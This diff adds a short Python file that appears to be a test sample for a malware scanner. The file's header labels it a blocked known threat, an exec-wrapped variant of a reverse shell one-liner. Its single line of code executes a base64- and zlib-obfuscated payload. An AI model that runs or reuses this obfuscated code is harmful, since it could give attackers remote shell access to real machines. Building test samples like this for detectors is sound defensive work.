@@ -1,0 +1,3 @@
+# expect: BLOCKED category: known_threat variant-of: risky/known_threat/classic_reverse_shell_oneliner.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxtjkFrAjEUhO/9FY94SSBGd9tb8CCiIGILdW+lyCY+STCbhLxsof++ikIvModhPmZgJtA5hII/WAiBHIYAKeI0+IgFziUNkEcTvIWMsSJVsA77emtiJQnXnemrH4AHTxVPYH7B9eSEevFDTuXaTPaCVdJockkWiWQiTYs7Vnfjj7TcHLfv604+4uFjtTseus/1ci80KZtiRFs5Z81c3dQw2bSvb0LoROo05paTOvuAMXEh50LDE9w8x63QefH/Udk+BP7FZsbHGTkm2dSzb6H/AGfoZKw=')))
